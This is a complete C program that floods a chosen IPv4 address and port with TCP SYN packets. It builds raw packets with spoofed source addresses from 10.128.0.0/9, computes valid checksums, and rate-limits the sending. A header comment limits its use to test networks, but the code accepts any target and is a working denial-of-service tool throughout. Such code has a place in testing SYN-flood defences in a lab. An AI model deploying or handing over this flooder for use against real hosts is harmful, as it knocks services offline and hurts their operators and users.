/*
 * syn-flood ADDRESS PORT COUNT PER_SECOND: sends COUNT SYNs to ADDRESS:PORT from as many spoofed sources in 10.128.0.0/9,
 * at most PER_SECOND of them, and prints how many it sent. IPv4. Only for networks made for a test.
 */
#include <arpa/inet.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
};

static unsigned sum16(const void *bytes, size_t length, unsigned sum)
{
	const unsigned short *words = bytes;

	for (size_t i = 0; i < length / 2; i++)
		sum += words[i];
	return sum;
}

static unsigned short fold(unsigned sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static void fill(struct segment *s, unsigned n, in_addr_t target, unsigned short port)
{
	struct {
		in_addr_t source, target;
		unsigned short protocol, length;
	} pseudo = { htonl(0x0a800000 + n % 0x7f0000 + 1), target, htons(IPPROTO_TCP), htons(sizeof(s->tcp)) };

	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = 5;
	s->ip.tot_len = htons(sizeof(*s));
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.saddr = pseudo.source;
	s->ip.daddr = target;
	s->tcp.source = htons(1024 + n % 60000);
	s->tcp.dest = htons(port);
	s->tcp.seq = htonl(n * 2654435761u);
	s->tcp.doff = 5;
	s->tcp.syn = 1;
	s->tcp.window = htons(64000);
	s->tcp.check = fold(sum16(&s->tcp, sizeof(s->tcp), sum16(&pseudo, sizeof(pseudo), 0)));
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct segment segment;
	unsigned sent = 0;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	unsigned count = atoi(argv[3]), rate = atoi(argv[4]);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	double start = now();

	if (fd < 0)
		return 1;
	for (unsigned n = 0; n < count; n++) {
		fill(&segment, n, to.sin_addr.s_addr, atoi(argv[2]));
		if (sendto(fd, &segment, sizeof(segment), 0, (void *)&to, sizeof(to)) == sizeof(segment))
			sent++;
		while (n % 64 == 63 && now() - start < (double)n / rate)
			usleep(100);
	}
	printf("sent %u\n", sent);
	return 0;
}
